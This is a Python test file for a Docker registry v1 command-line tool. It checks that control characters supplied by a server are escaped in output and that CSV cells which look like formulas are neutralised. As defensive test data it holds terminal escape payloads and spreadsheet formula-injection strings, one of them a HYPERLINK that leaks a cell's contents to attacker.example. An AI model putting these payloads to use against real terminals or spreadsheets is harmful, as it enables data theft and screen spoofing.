"""Server-supplied strings never drive the terminal: control characters in tags, image
JSON, version headers, search results and log lines are printed as visible escapes in
tables and plain lines, JSON keeps the exact values, and CSV cells that start like a
formula are neutralised."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import attrs
import pytest
from cli_support import chain, netloc
from docker_registry_v1.cli import options
from docker_registry_v1.cli.output import json_text, visible
from docker_registry_v1.emulator import Standalone
from docker_registry_v1.emulator.seed import SeedImage, payload_checksum
from regv1_runner import document, regv1

REGV1 = Path(sys.executable).with_name("regv1")
#: Retitles the window (OSC), turns text red (CSI), clears the screen (C1 CSI), then a
#: tab and a newline that would split a cell and a line.
HOSTILE = "\x1b]0;pwned\x07\x1b[31mred\x9b2J\tcell\nline"
SHOWN = r"\x1b]0;pwned\x07\x1b[31mred\x9b2J\tcell\nline"
#: Every control character but the newline ending lines and the tab between plain cells.
FORBIDDEN = {chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))} - {"\n", "\t"}


def controls(text: str, *, allowed: str = "\n\t") -> set[str]:
    return {char for char in text if char in FORBIDDEN | set("\n\t") - set(allowed)}


def hostile_chain(seed: int = 0) -> list[SeedImage]:
    """A two-image chain whose tip's author, comment and created carry :data:`HOSTILE`."""
    images = chain(2, seed=seed)
    document = json.loads(images[-1].json_bytes)
    document.update(author=HOSTILE, comment=HOSTILE, created=f"2014-10-13T21:19:18Z{HOSTILE}")
    raw = json.dumps(document).encode()
    tip = attrs.evolve(
        images[-1], json_bytes=raw, checksum=payload_checksum(raw, images[-1].layer_bytes)
    )
    return [*images[:-1], tip]


@pytest.fixture
def hostile(standalone: Standalone) -> Standalone:
    """``team/app`` and ``team/other`` share the hostile chain; ``team/app`` has a tag
    named with :data:`HOSTILE` and a plain one, ``safe``."""
    images = hostile_chain()
    standalone.store.seed("team/app", f"v{HOSTILE}", images)
    standalone.store.seed("team/app", "safe", images)
    standalone.store.seed("team/other", "1.0", images)
    return standalone


def test_visible_escapes_c0_del_and_c1_and_nothing_else() -> None:
    assert visible(HOSTILE) == SHOWN
    assert visible("\x00\x7f\x80\x9f\r") == r"\x00\x7f\x80\x9f\r"
    assert visible("é ü 名前 \\x1b ~") == "é ü 名前 \\x1b ~"  # printable text stays
    assert visible(visible(HOSTILE)) == SHOWN


def test_json_text_escapes_c1_and_parses_to_the_same_value() -> None:
    document = {"name": HOSTILE + "\x7f\x85", "plain": "é"}
    text = json_text(document)
    assert not controls(text, allowed="\n")  # C0 by json itself, DEL and C1 by json_text
    assert "\\u009b" in text
    assert "\\u007f" in text
    assert "é" in text
    assert json.loads(text) == document


def test_tags_plain_and_table_show_escapes(hostile: Standalone) -> None:
    ref = f"{netloc(hostile.url)}/team/app"
    plain = regv1("tags", ref)
    assert plain.exit_code == 0, plain.stderr
    assert not controls(plain.stdout)
    rows = [line.split("\t") for line in plain.stdout.splitlines()]
    tip = hostile_chain()[-1].id
    assert rows == [["safe", tip], [f"v{SHOWN}", tip]]  # one line and two cells each

    table = regv1("tags", ref, "--format", "table")
    assert table.exit_code == 0, table.stderr
    assert not controls(table.stdout, allowed="\n")
    assert f"v{SHOWN}" in table.stdout

    exact = document(regv1("tags", ref, "--json"))
    assert exact["tags"][f"v{HOSTILE}"] == tip


def test_a_table_on_a_real_terminal_shows_escapes(hostile: Standalone) -> None:
    """regv1 itself on a pseudo-terminal: rich draws its table, with its own styling,
    and the server's sequences arrive as text."""
    master, slave = os.openpty()
    environment = {k: v for k, v in os.environ.items() if not k.startswith("REGV1_")}
    process = subprocess.Popen(
        [str(REGV1), "tags", f"{netloc(hostile.url)}/team/app", "--no-trunc"],
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=subprocess.PIPE,
        env=environment | {"COLUMNS": "200", "TERM": "xterm-256color"},
    )
    os.close(slave)
    received = bytearray()
    try:
        while chunk := os.read(master, 65536):
            received += chunk
    except OSError:  # EIO: the terminal's last writer closed it
        pass
    finally:
        os.close(master)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 0, stderr
    assert "┃" in received.decode()  # a table, drawn for a terminal
    assert b"\x1b]" not in received  # no OSC: the window title is untouched
    assert b"\x1b[31m" not in received
    assert "\x9b".encode() not in received
    assert f"v{SHOWN}".encode() in received


def test_metadata_prints_json_without_raw_controls(hostile: Standalone) -> None:
    ref = f"{netloc(hostile.url)}/team/app:safe"
    human = regv1("metadata", ref)
    assert human.exit_code == 0, human.stderr
    assert not controls(human.stdout, allowed="\n")
    assert "\\u001b]0;pwned\\u0007" in human.stdout
    assert "\\u009b" in human.stdout
    assert json.loads(human.stdout)["author"] == HOSTILE

    exact = document(regv1("metadata", ref, "--json"))
    assert exact["metadata"]["author"] == HOSTILE
    assert exact["metadata"]["comment"] == HOSTILE


def test_inventory_table_plain_and_json(hostile: Standalone) -> None:
    host = netloc(hostile.url)
    table = regv1("inventory", host, "--format", "table", "--no-trunc")
    assert table.exit_code == 0, table.stderr
    assert not controls(table.stdout, allowed="\n")
    assert f"2014-10-13T21:19:18Z{SHOWN}" in table.stdout  # the shared image's CREATED

    plain = regv1("inventory", host)
    assert plain.exit_code == 0, plain.stderr
    assert not controls(plain.stdout)

    ndjson = regv1("inventory", host, "--format", "ndjson")
    assert not controls(ndjson.stdout, allowed="\n")
    tags = {json.loads(line).get("tag") for line in ndjson.stdout.splitlines()}
    assert f"v{HOSTILE}" in tags


FORMULAS = {
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")': "'=",
    "+1+1": "'+",
    "-2+3": "'-",
    "@SUM(1+1)": "'@",
    "\t=1+1": "'\t",
    "\r=1+1": "'\r",
}


def test_csv_cells_that_start_like_formulas_get_a_quote(standalone: Standalone) -> None:
    images = chain(1, seed=3)
    for tag in [*FORMULAS, "1.0-rc1"]:
        standalone.store.seed("team/app", tag, images)
    host = netloc(standalone.url)
    result = regv1("inventory", host, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    written = {row["tag"] for row in rows}
    assert written == {f"'{tag}" for tag in FORMULAS} | {"1.0-rc1"}
    for row in rows:
        assert row["tag"][:2] == FORMULAS.get(row["tag"][1:], "1.")
        assert row["layers"] == "1"  # numbers stay numbers
        assert row["image_id"] == images[-1].id
    # the other formats keep the names exact
    exact = document(regv1("inventory", host, "--format", "json"))
    assert {row["tag"] for row in exact["tags"]} == {*FORMULAS, "1.0-rc1"}


def test_inventory_help_documents_the_csv_guard() -> None:
    result = regv1("inventory", "--help")
    assert result.exit_code == 0
    text = " ".join(result.stdout.split())
    assert "--format csv a cell that starts with =, +, -, @, a tab or a CR gets a leading '" in text


VERSION = "0.9.1\x1b]0;pwned\x07\x1b[31m\x9b2J"
REASON = "OK\x1b]0;reason\x07"
SEARCH_NAME = "team/\x1b[31mapp"


class _HostileRegistry(BaseHTTPRequestHandler):
    """A v1 registry that answers ping and search with escape sequences in a header, the
    status line's reason and JSON strings (the emulator only sends clean ones)."""

    def log_message(self, format: str, *args: object) -> None:
        del format, args

    def _json(self, document: object, *headers: tuple[str, str]) -> None:
        body = json.dumps(document).encode()
        self.send_response(200, REASON)
        for name, value in (("Content-Type", "application/json"), *headers):
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        if self.path in ("/_ping", "/v1/_ping"):
            self._json(
                {},
                ("X-Docker-Registry-Version", VERSION),
                ("X-Docker-Registry-Standalone", "True"),
            )
        elif self.path.startswith("/v1/search"):
            result = {"name": SEARCH_NAME, "description": HOSTILE, "star_count": 1}
            self._json({"num_results": 1, "query": "app", "results": [result]})
        else:
            self.send_error(404)


@pytest.fixture
def hostile_registry() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileRegistry)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def test_ping_version_from_the_header_is_escaped(hostile_registry: str) -> None:
    result = regv1("ping", hostile_registry)
    assert result.exit_code == 0, result.stderr
    assert not controls(result.stdout)
    assert f"version: {visible(VERSION)}" in result.stdout.splitlines()
    assert document(regv1("ping", hostile_registry, "--json"))["version"] == VERSION


def test_search_names_and_descriptions_are_escaped(hostile_registry: str) -> None:
    plain = regv1("search", "app", "--registry", hostile_registry)
    assert plain.exit_code == 0, plain.stderr
    assert not controls(plain.stdout)
    assert plain.stdout.splitlines() == [f"{visible(SEARCH_NAME)}\t{SHOWN}\t1\t\t"]

    table = regv1("search", "app", "--registry", hostile_registry, "--format", "table")
    assert not controls(table.stdout, allowed="\n")
    assert visible(SEARCH_NAME) in table.stdout
    assert SHOWN in table.stdout

    exact = document(regv1("search", "app", "--registry", hostile_registry, "--json"))
    assert exact["results"][0]["name"] == SEARCH_NAME
    assert exact["results"][0]["description"] == HOSTILE


def test_debug_log_lines_are_escaped(hostile_registry: str) -> None:
    """-v logs each response's status line, whose reason phrase the server chose."""
    result = regv1("ping", hostile_registry, "-v")
    assert result.exit_code == 0, result.stderr
    assert not controls(result.stderr)
    assert visible(REASON) in result.stderr


def test_error_and_warning_lines_are_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    options.CommandError(f"tag {HOSTILE} refused").show()
    options.warn(f"odd answer {HOSTILE}")
    captured = capsys.readouterr()
    assert captured.err.splitlines() == [
        f"error: tag {SHOWN} refused",
        f"warning: odd answer {SHOWN}",
    ]


def test_a_failing_command_prints_one_escaped_error_line(tmp_path: Path) -> None:
    """A file name with an escape sequence in the message, through the real error path."""
    folder = tmp_path / "\x1b]0;pwned\x07"
    folder.mkdir()
    (folder / "auth.json").write_text("not json")
    result = regv1("logout", "--all", "--authfile", str(folder / "auth.json"))
    lines = result.stderr.splitlines()
    assert result.exit_code == 1, result.stderr
    assert len(lines) == 1
    assert lines[0].startswith("error: ")
    assert not controls(result.stderr)
    assert visible(str(folder)) in lines[0]


def test_log_tracebacks_keep_their_lines_and_lose_their_controls() -> None:
    formatter = options._VisibleFormatter("%(name)s: %(message)s")
    try:
        raise ValueError(f"bad answer {HOSTILE.replace(chr(10), ' ')}")
    except ValueError:
        record = logging.LogRecord(
            "docker_registry_v1.http", logging.DEBUG, __file__, 1, HOSTILE, None, sys.exc_info()
        )
    lines = formatter.format(record).split("\n")
    assert lines[0] == f"docker_registry_v1.http: {SHOWN}"  # the message is one line
    assert lines[1] == "Traceback (most recent call last):"
    assert lines[-1] == f"ValueError: bad answer {SHOWN.replace(chr(92) + 'n', ' ')}"
    assert not controls("\n".join(lines), allowed="\n")
